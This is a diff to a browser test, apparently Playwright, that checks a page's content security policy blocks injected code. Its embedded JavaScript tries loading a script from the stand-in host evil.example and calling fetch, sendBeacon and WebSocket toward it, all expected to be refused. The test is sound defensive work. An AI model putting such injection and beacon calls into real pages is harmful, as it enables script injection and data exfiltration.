@@ -1,6 +1,5 @@
 """The policy in a browser: nothing of the site is refused by it, and whatever else is, hosted and from disk."""
 
-import re
 from pathlib import Path
 
 import pytest
@@ -39,15 +38,14 @@ _TRIES = """async () => {
   script((one) => (one.src = "data:text/javascript,window.ran = 6"));
   script((one) => (one.src = "https://evil.example/x.js"));
   script((one) => (one.src = URL.createObjectURL(new Blob(["window.ran = 7"]))));
-  for (const make of ["eval", "Function", "setTimeout"]) {
-    try { await window[make]("window.ran = 8"); } catch { /* refused */ }
-  }
+  setTimeout("window.ran = 8"); // a tool of the browser itself, which this is, may call eval()
   try { new Worker(URL.createObjectURL(new Blob(["1"]))); } catch { /* refused */ }
   try { await fetch("https://evil.example/"); } catch { /* refused */ }
   try { navigator.sendBeacon("https://evil.example/"); } catch { /* refused */ }
   try { new WebSocket("wss://evil.example/"); } catch { /* refused */ }
   await new Promise((done) => setTimeout(done, 500));
-  return [window.ran ?? 0, getComputedStyle(document.body).outlineWidth, document.baseURI, [...new Set(refused)].sort()];
+  const { outlineWidth } = getComputedStyle(document.body);
+  return [window.ran ?? 0, outlineWidth, document.baseURI, [...new Set(refused)]];
 }"""
 _REFUSED = {
     "base-uri",
@@ -93,14 +91,17 @@ def test_what_is_put_into_a_page_does_not_run(
     places = {"hosted": address, "with headers": strict_address, "from disk": on_disk(from_disk.folder, "")}
     context = chromium.new_context()
     page = context.new_page()
-    asked: list[str] = []
-    page.on("request", lambda request: asked.append(request.url))
+    stopped: list[str] = []
+    answered: list[str] = []
+    page.on("requestfailed", lambda request: stopped.append(f"{request.failure}: {request.url}"))
+    context.route("https://evil.example/**", lambda route: (answered.append(route.request.url), route.abort()))
     page.goto(places[where])
     ran, outline, base, refused = page.evaluate(_TRIES)
     assert (ran, base) == (0, places[where])
     assert not outline.startswith("9")
     assert set(refused) >= _REFUSED, _REFUSED - set(refused)
-    assert [one for one in asked if re.match(r"(https?|wss?)://evil", one)] == []
+    assert answered == []
+    assert [one for one in stopped if "evil" in one and not one.startswith("csp: ")] == []
     context.close()
 
 
